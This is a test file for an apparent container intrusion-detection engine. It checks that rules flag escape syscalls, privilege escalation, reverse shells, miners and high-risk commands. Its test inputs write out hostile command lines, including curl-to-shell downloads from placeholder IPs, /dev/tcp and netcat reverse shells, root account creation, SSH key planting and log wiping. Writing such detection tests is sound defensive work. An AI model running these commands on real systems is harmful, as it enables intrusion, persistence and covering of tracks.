// The kernel-level rules on events shaped as the audit and proc sources emit them: each fires on
// the behaviour and stays quiet on its benign look-alike. (The live suite repeats the important
// ones against the real kernel.)
import { beforeAll, describe, expect, it } from 'vitest';
import type { VigilEvent } from '../../src/engine/events.js';
import type { Profile } from '../../src/engine/profile.js';
import { loadProfile } from '../../src/profile/load.js';
import { runEngine, snapshotEvent, snapshotFixture } from '../helpers/engine.js';
import { auditExec, auditSyscall, CONTAINER, procSnapshot, tcp, whitelistEvent } from '../helpers/kernel-events.js';

let profile: Profile;
beforeAll(async () => {
  profile = await loadProfile();
});

const plain = () => snapshotEvent(snapshotFixture('plain', { id: CONTAINER, image: 'shop/web:1.4' }), 'start', 1);
const run = (events: VigilEvent[], p: Profile = profile, container = plain()) => runEngine([container, ...events], p).alerts;
const rules = (events: VigilEvent[], p?: Profile) => run(events, p).map((a) => a.ruleId);
const init = procSnapshot({ pid: 4200, ppid: 4100, startTime: 4000, exe: '/bin/sh', cmdline: ['sh'] });

describe('system.syscall', () => {
  it('fires on a high-risk syscall in a container, with the syscall, its result and the ancestry', () => {
    const [alert, ...rest] = run([init, auditSyscall({ exe: '/tmp/x', cmdline: ['/tmp/x'] }, { syscall: 'unshare', success: false, exit: -1 })]);
    expect(rest).toEqual([]);
    expect(alert).toMatchObject({
      ruleId: 'system.syscall',
      summary: 'x called unshare (failed with EPERM)',
      container: { id: CONTAINER, image: 'shop/web:1.4' },
      process: { pid: 4242, exe: '/tmp/x' },
      evidence: { syscall: { name: 'unshare', success: false, exit: -1 }, ancestry: [{ pid: 4200, exe: '/bin/sh' }] },
    });
  });

  it('stays quiet on ordinary syscalls, host processes, and the runtime setting a container up', () => {
    expect(rules([auditSyscall({}, { syscall: 'openat' })])).toEqual([]);
    expect(rules([auditSyscall({ containerId: undefined }, { syscall: 'setns' })])).toEqual([]);
    expect(rules([auditSyscall({ exe: '/usr/sbin/runc', comm: 'runc:[2:INIT]', ppid: 1 }, { syscall: 'setns' })])).toEqual([]);
    expect(rules([auditSyscall({ exe: '/', comm: 'runc:[1:CHILD]', ppid: 1 }, { syscall: 'unshare' })])).toEqual([]);
    expect(rules([auditSyscall({ exe: '/sbin/docker-init', ppid: 1 }, { syscall: 'setsid' })])).toEqual([]);
    // runc init re-executed from a memfd, as a /proc scan sees it.
    expect(rules([procSnapshot({ exe: '/memfd:runc_cloned:/proc/self/exe', cmdline: ['runc', 'init'], ppid: 1 })], { ...profile, processWhitelist: { '*': ['sh'] } })).toEqual([]);
    // …but a container program only calling itself runc is not.
    expect(rules([init, auditSyscall({ exe: '/tmp/x', cmdline: ['runc', 'init'], ppid: 4200 }, { syscall: 'setns' })])).toEqual(['system.syscall']);
  });

  it("does not take a container's own program for the runtime by the name it gives itself", () => {
    // The container's init, set apart only by a comm it set with prctl.
    expect(rules([auditSyscall({ exe: '/tmp/x', comm: 'runc:[2:INIT]', ppid: 1 }, { syscall: 'setns' })])).toEqual(['system.syscall']);
    // An entrypoint binary named like the Docker daemon, which never acts inside a container.
    const named = auditExec({ exe: '/usr/local/bin/dockerd', comm: 'dockerd', cmdline: ['sh', '-c', 'echo ZWNobyBoaQo= | base64 -d | sh'], ppid: 1 });
    expect(rules([named])).toEqual(['system.high_risk_command']);
  });

  it('does not take a container program named runc for the runtime', () => {
    const events = [init, auditSyscall({ exe: '/usr/sbin/runc', comm: 'runc', ppid: 4200 }, { syscall: 'setns' })];
    expect(rules(events)).toEqual(['system.syscall']);
  });

  it("attributes a container's init, gone before its cgroup was read, by the pid the runtime reported", () => {
    const started = snapshotEvent(snapshotFixture('plain', { id: CONTAINER, image: 'shop/web:1' }), 'start', 1);
    const pid = started.kind === 'container.snapshot' ? started.data.container.state.pid : 0;
    expect(pid).toBeGreaterThan(0);
    const alerts = run([auditSyscall({ pid, ppid: 1, containerId: undefined }, { syscall: 'finit_module', success: false, exit: -38 })], profile, started);
    expect(alerts.map((a) => [a.ruleId, a.container?.id])).toEqual([
      ['system.syscall', CONTAINER],
      ['exploit.escape_vuln', CONTAINER],
    ]);
  });

  it('attributes a process that was gone before its cgroup was read to its parent container', () => {
    const events = [init, auditSyscall({ containerId: undefined, ppid: 4200 }, { syscall: 'ptrace' })];
    expect(run(events)[0]).toMatchObject({ ruleId: 'system.syscall', container: { id: CONTAINER } });
  });
});

describe('exploit.escape_vuln', () => {
  it.each([
    [{ syscall: 'open_by_handle_at', success: false, exit: -1 }, 'shocker'],
    [{ syscall: 'openat', args: ['ffffff9c', '7ffd', '2', '0'], paths: [{ name: '/proc/self/exe' }], success: false, exit: -26 }, 'runc-overwrite'],
    [{ syscall: 'openat', args: ['ffffff9c', '7ffd', '2', '0'], paths: [{ name: '/proc/self/mem' }] }, 'proc-mem-write'],
    [{ syscall: 'open', args: ['7ffd', '241', '1b6', '0'], paths: [{ name: 'release_agent' }], cwd: '/sys/fs/cgroup/memory' }, 'release-agent'],
    [{ syscall: 'openat', args: ['ffffff9c', '7ffd', '241', '1b6'], paths: [{ name: '/proc/sys/kernel/core_pattern' }] }, 'core-pattern'],
    [{ syscall: 'finit_module', success: false, exit: -1 }, 'kernel-module'],
    [{ syscall: 'mount', paths: [{ name: '/dev/vda' }, { name: '/mnt' }], success: false, exit: -1 }, 'block-device-mount'],
  ])('recognises %j as %s', (spec, technique) => {
    const alerts = run([init, auditSyscall({ exe: '/tmp/exploit' }, spec)]).filter((a) => a.ruleId === 'exploit.escape_vuln');
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.evidence.technique).toBe(technique);
    expect(alerts[0]!.severity).toBe('critical');
  });

  it('stays quiet on reading /proc/self/exe or /proc/self/mem, and on mounting tmpfs', () => {
    const quiet = [
      auditSyscall({}, { syscall: 'openat', args: ['ffffff9c', '7ffd', '0', '0'], paths: [{ name: '/proc/self/exe' }] }),
      auditSyscall({}, { syscall: 'openat', args: ['ffffff9c', '7ffd', '80000', '0'], paths: [{ name: '/proc/self/mem' }] }),
      auditSyscall({}, { syscall: 'mount', paths: [{ name: 'tmpfs' }, { name: '/mnt' }] }),
    ];
    expect(run(quiet).filter((a) => a.ruleId === 'exploit.escape_vuln')).toEqual([]);
  });
});

describe('exploit.escape_file', () => {
  const withRoot = () => snapshotEvent({ ...snapshotFixture('mount-host-root'), id: CONTAINER }, 'start', 1);
  const escapes = (events: VigilEvent[]) => runEngine(events, profile).alerts.filter((a) => a.ruleId === 'exploit.escape_file');
  it('resolves the in-container path through the mount map to a host key file', () => {
    const alerts = escapes([withRoot(), auditSyscall({ exe: '/bin/cat' }, { syscall: 'openat', paths: [{ name: 'shadow' }], cwd: '/host/etc', key: 'vigil_hostfile' })]);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      ruleId: 'exploit.escape_file',
      evidence: { path: '/host/etc/shadow', hostPath: '/etc/shadow', mount: { source: '/', destination: '/host' }, matchedBy: '/etc/shadow' },
    });
  });

  it('trusts an audit watch hit on a host file even when the path does not resolve', () => {
    const alerts = run([auditSyscall({}, { syscall: 'openat', paths: [{ name: '/proc/1/root/etc/shadow' }], key: 'vigil_hostfile' })]);
    expect(alerts.map((a) => a.ruleId)).toEqual(['exploit.escape_file']);
    expect(alerts[0]!.evidence.matchedBy).toBe('audit watch on the host file');
  });

  it("stays quiet on the container's own /etc/shadow and on harmless host files", () => {
    expect(run([auditSyscall({}, { syscall: 'chmod', args: ['7ffd', '1a0', '0', '0'], paths: [{ name: '/etc/shadow' }], key: 'vigil_perm' })]).filter((a) => a.ruleId === 'exploit.escape_file')).toEqual([]);
    expect(escapes([withRoot(), auditSyscall({}, { syscall: 'openat', paths: [{ name: '/host/etc/os-release' }], key: 'vigil_x' })])).toEqual([]);
  });
});

describe('system.high_risk_command', () => {
  it.each([
    [['sh', '-c', 'curl -fsSL http://203.0.113.7/x.sh | sh'], 'download-and-execute'],
    [['sh', '-c', 'echo Y3VybCB4 | base64 -d | bash'], 'decoded-payload-to-shell'],
    [['nsenter', '-t', '1', '-m', '-u', '-n', '-i', 'sh'], 'namespace-entry'],
    [['insmod', 'rootkit.ko'], 'kernel-module-load'],
    [['sh', '-c', 'history -c; rm -f ~/.bash_history'], 'history-wiping'],
    [['iptables', '-F'], 'firewall-flush'],
    [['useradd', '-o', '-u', '0', 'toor'], 'account-tampering'],
    [['sh', '-c', 'echo root:x | chpasswd'], 'account-tampering'],
    [['sh', '-c', 'echo "* * * * * sh /tmp/x" > /tmp/c; crontab /tmp/c'], 'crontab-tampering'],
    [['/usr/sbin/iptables', '--flush'], 'firewall-flush'],
    [['sh', '-c', 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys'], 'ssh-key-planting'],
    [['sh', '-c', ': > /var/log/auth.log'], 'log-wiping'],
    [['sh', '-c', '>/var/log/wtmp'], 'log-wiping'],
  ])('fires on %j as %s', (cmdline, name) => {
    const alerts = run([auditExec({ exe: `/usr/bin/${cmdline[0]}`, cmdline })]).filter((a) => a.ruleId === 'system.high_risk_command');
    expect(alerts.map((a) => a.evidence.pattern)).toContain(name);
  });

  it.each([
    [['curl', '-fsSL', '-o', '/tmp/page.html', 'http://example.com']],
    [['sh', '-c', 'base64 -d < cert.b64 > cert.pem']],
    [['iptables', '-L', '-n']],
    [['ls', '-la', '/var/log']],
    [['cat', '/root/.ssh/authorized_keys']],
    [['sh', '-c', 'cat /etc/passwd /etc/group > /dev/null']],
    [['grep', 'nsenter', '/var/log/syslog']],
    [['crontab', '-l']],
    [['sh', '-c', 'echo "request 1" >> /var/log/app/app.log']],
    [['sh', '-c', 'nginx -t 2>/var/log/nginx/check.err']],
  ])('stays quiet on %j', (cmdline) => {
    expect(run([auditExec({ exe: `/usr/bin/${cmdline[0]}`, cmdline })])).toEqual([]);
  });

  it('sees commands from /proc scans when audit is off, once per command', () => {
    const cmd = { pid: 77, exe: '/bin/sh', cmdline: ['sh', '-c', 'wget -qO- http://x/y | sh'] };
    const alerts = run([procSnapshot(cmd), procSnapshot(cmd), auditExec(cmd)]);
    expect(alerts.map((a) => a.ruleId)).toEqual(['system.high_risk_command']);
    expect(alerts[0]!.evidence.via).toBe('proc');
  });
});

describe('system.privilege_escalation', () => {
  it('fires on a SUID-root program executed by a non-root user', () => {
    const [alert] = run([auditExec({ exe: '/usr/bin/pkexec', uid: 1000, euid: 0 })]);
    expect(alert).toMatchObject({ ruleId: 'system.privilege_escalation', evidence: { technique: 'suid-exec' } });
  });

  it('fires when credentials turn to root without an exec', () => {
    const user = { pid: 90, startTime: 7000, exe: '/tmp/exploit', cmdline: ['/tmp/exploit'], uid: 1000, euid: 1000 };
    const alerts = run([procSnapshot(user), procSnapshot({ ...user, uid: 0, euid: 0 })]);
    expect(alerts.map((a) => [a.ruleId, a.evidence.technique, a.severity])).toEqual([['system.privilege_escalation', 'creds-without-exec', 'critical']]);
  });

  it('fires on setuid(0) succeeding from a process known as non-root', () => {
    const user = { pid: 91, startTime: 7000, exe: '/tmp/exploit', uid: 1000 };
    const alerts = run([procSnapshot(user), auditSyscall({ ...user, uid: 0, euid: 0 }, { syscall: 'setuid', args: ['0', '0', '0', '0'] })]);
    expect(alerts.map((a) => a.evidence.technique)).toEqual(['setuid-root']);
  });

  it('fires on files made SUID/SGID and on file capabilities', () => {
    const alerts = run([
      auditSyscall({}, { syscall: 'fchmodat', args: ['ffffff9c', '7ffd', '9ed', '0'], paths: [{ name: '/tmp/rootbash' }] }),
      auditSyscall({}, { syscall: 'setxattr', paths: [{ name: '/tmp/ping' }] }),
    ]);
    expect(alerts.map((a) => [a.evidence.technique, a.evidence.file])).toEqual([
      ['suid-file', '/tmp/rootbash'],
      ['file-capabilities', '/tmp/ping'],
    ]);
    expect(alerts[0]!.evidence.mode).toBe('4755');
  });

  it('stays quiet on root running SUID programs, plain chmod, su dropping to a user, and failed attempts', () => {
    const quiet = [
      auditExec({ exe: '/bin/su', uid: 0, euid: 0 }),
      auditExec({ exe: '/usr/bin/id', uid: 1000, euid: 1000 }),
      auditSyscall({}, { syscall: 'chmod', args: ['7ffd', '1ed', '0', '0'], paths: [{ name: '/tmp/script' }] }),
      auditSyscall({ uid: 1000, euid: 1000 }, { syscall: 'setuid', args: ['3e8', '0', '0', '0'] }),
      procSnapshot({ pid: 31, startTime: 9, uid: 1000, euid: 1000 }),
      auditSyscall({ pid: 31, startTime: 9, uid: 1000, euid: 1000 }, { syscall: 'setfsuid', args: ['0', '0', '0', '0'], exit: 1000 }),
      auditSyscall({}, { syscall: 'fchmodat', args: ['ffffff9c', '7ffd', '9ed', '0'], success: false, exit: -1 }),
    ];
    expect(run(quiet)).toEqual([]);
  });
});

describe('exploit.escape_vuln: the host core_pattern piped into a container', () => {
  const setting = (value: string, reason: 'startup' | 'change' = 'change'): VigilEvent => ({
    seq: 900,
    ts: '2026-11-27T10:00:09.000Z',
    source: 'proc',
    kind: 'host.setting',
    data: { name: 'kernel.core_pattern', value, reason },
  });
  const container = snapshotFixture('plain', { id: CONTAINER, image: 'shop/web:1' });
  const upper = container.graphDriver.data.UpperDir!;

  it("fires when the host's crashes are piped to a program in a container's writable layer, naming the container", () => {
    const alerts = run([setting('core', 'startup'), setting(`|${upper}/tmp/.x %p`)], profile, snapshotEvent(container));
    expect(alerts.map((a) => [a.ruleId, a.container?.id, a.evidence.technique, a.evidence.handler])).toEqual([['exploit.escape_vuln', CONTAINER, 'core-pattern', `${upper}/tmp/.x`]]);
  });

  it('fires for a handler in container storage it cannot place, and for one found at start', () => {
    expect(run([setting('|/var/lib/docker/overlay2/0f1e/diff/x', 'startup')]).map((a) => a.container?.id)).toEqual([undefined]);
  });

  it("stays quiet on the host's own crash handlers and on plain file patterns", () => {
    const quiet = [setting('|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h'), setting('|/usr/share/apport/apport -p%p -s%s -c%c'), setting('/var/crash/core.%e.%p'), setting('core')];
    expect(run(quiet, profile, snapshotEvent(container))).toEqual([]);
  });
});

describe('system.reverse_shell', () => {
  it('fires on a shell whose stdin/stdout is a TCP socket', () => {
    const [alert] = run([procSnapshot({ exe: '/bin/busybox', cmdline: ['sh'] }, [tcp(0), tcp(1), tcp(2)])]);
    expect(alert).toMatchObject({ ruleId: 'system.reverse_shell', severity: 'critical', evidence: { technique: 'stdio-socket' } });
    expect(alert!.summary).toBe('sh has its stdin/stdout/stderr on a tcp socket to 10.0.0.9:4444');
  });

  it('fires on a shell whose stdio is a connected UDP socket, or any raw socket (an ICMP tunnel)', () => {
    const udp = { fd: 0, protocol: 'udp' as const, local: '172.17.0.2:40000', remote: '203.0.113.9:53', state: 'ESTABLISHED' };
    const icmp = { fd: 1, protocol: 'raw' as const, local: '0.0.0.0:1', remote: '0.0.0.0:0', state: 'CLOSE' };
    const alerts = run([procSnapshot({ pid: 20, exe: '/bin/sh', cmdline: ['sh'] }, [udp]), procSnapshot({ pid: 21, exe: '/bin/bash', cmdline: ['bash'] }, [icmp])]);
    expect(alerts.map((a) => a.summary)).toEqual(['sh has its stdin on a udp socket to 203.0.113.9:53', 'bash has its stdout on an unconnected raw socket']);
  });

  it('fires on known reverse-shell command lines', () => {
    const alerts = run([
      auditExec({ exe: '/bin/bash', cmdline: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }),
      auditExec({ pid: 5, exe: '/usr/bin/nc', cmdline: ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'] }),
      auditExec({ pid: 6, exe: '/usr/bin/python3', cmdline: ['python3', '-c', 'import socket,subprocess,os,pty;s=socket.socket();s.connect(("h",1));pty.spawn("sh")'] }),
    ]).filter((a) => a.ruleId === 'system.reverse_shell');
    expect(alerts).toHaveLength(3);
  });

  it('stays quiet on servers, listeners, unix sockets, and shells on pipes', () => {
    const quiet = [
      procSnapshot({ pid: 10, exe: '/usr/sbin/nginx', cmdline: ['nginx'] }, [tcp(0, '10.0.0.9:4444')]),
      procSnapshot({ pid: 11, exe: '/bin/sh', cmdline: ['sh'] }, [tcp(3), tcp(4, '0.0.0.0:0', 'LISTEN')]),
      procSnapshot({ pid: 12, exe: '/bin/bash', cmdline: ['bash'] }, [{ fd: 0, protocol: 'udp', local: '0.0.0.0:68', remote: '0.0.0.0:0', state: 'CLOSE' }]),
      procSnapshot({ pid: 13, exe: '/usr/bin/nc', cmdline: ['nc', '-l', '-p', '8080'] }, [tcp(0, '0.0.0.0:0', 'LISTEN')]),
      auditExec({ pid: 14, exe: '/bin/bash', cmdline: ['bash', '-c', 'cat /dev/tcp.txt'] }),
    ];
    expect(run(quiet)).toEqual([]);
  });
});

describe('system.container_abnormal_process', () => {
  const bound = (): Profile => ({ ...profile, processWhitelist: { 'shop/web:*': ['nginx', 'sh'] } });

  it('fires on a process outside the image whitelist, once per process name', () => {
    const alerts = run([auditExec({ exe: '/usr/bin/wget' }), auditExec({ pid: 9, exe: '/usr/bin/wget' }), auditExec({ pid: 10, exe: '/usr/sbin/nginx' })], bound());
    expect(alerts.map((a) => [a.ruleId, a.evidence.name])).toEqual([['system.container_abnormal_process', 'wget']]);
  });

  it('stays quiet for images without a whitelist and for allowed processes', () => {
    expect(run([auditExec({ exe: '/usr/bin/wget' })])).toEqual([]);
    expect(run([auditExec({ exe: '/bin/sh' })], bound())).toEqual([]);
  });

  it('applies whitelist toggles from the state file at the point they happen in the stream', () => {
    const entries = (enabled: boolean) => [{ image: 'shop/web:1.4', process: 'wget', enabled }];
    const alerts = run(
      [
        whitelistEvent(entries(true)),
        auditExec({ pid: 20, exe: '/usr/bin/wget' }),
        auditExec({ pid: 21, exe: '/usr/bin/curl' }),
        whitelistEvent(entries(false)),
        auditExec({ pid: 22, exe: '/usr/bin/wget' }),
      ],
      bound(),
    );
    expect(alerts.map((a) => a.evidence.name)).toEqual(['curl', 'wget']);
    expect(alerts[1]!.events).toEqual([alerts[1]!.events[0]]);
  });
});

describe('system.container_malicious_program', () => {
  it.each([
    [auditExec({ exe: '/tmp/.x/xmrig', cmdline: ['./xmrig'] }), 'process name'],
    [auditExec({ exe: '/tmp/systemd-helper', cmdline: ['/tmp/systemd-helper', '-o', 'stratum+tcp://pool.example:3333'] }), 'command line'],
    [auditExec({ exe: '/tmp/a' }, { exeSha256: 'ab'.repeat(32) }), 'sha256'],
  ])('fires on %#', (event, fingerprint) => {
    const p = { ...profile, malware: { ...profile.malware, sha256: ['AB'.repeat(32)] } };
    const alerts = run([event], p).filter((a) => a.ruleId === 'system.container_malicious_program');
    expect(alerts.map((a) => a.evidence.fingerprint)).toEqual([fingerprint]);
  });

  it('stays quiet on ordinary programs', () => {
    expect(run([auditExec({ exe: '/usr/bin/python3', cmdline: ['python3', 'miner_stats.py', '--pool-report'] })])).toEqual([]);
  });
});

describe('vigil.audit_lost', () => {
  it('reports records the kernel dropped since the last status, and nothing when none were', () => {
    const status = (lost: number, lostSince: number): VigilEvent => ({ seq: lost + 500, ts: '2026-11-27T10:00:00.000Z', source: 'audit', kind: 'status', data: { enabled: 1, lost, lostSince, backlog: 0 } });
    const alerts = runEngine([status(0, 0), status(12, 12)], profile).alerts;
    expect(alerts.map((a) => [a.ruleId, a.category, a.evidence.lostSince])).toEqual([['vigil.audit_lost', 'vigil', 12]]);
  });
});
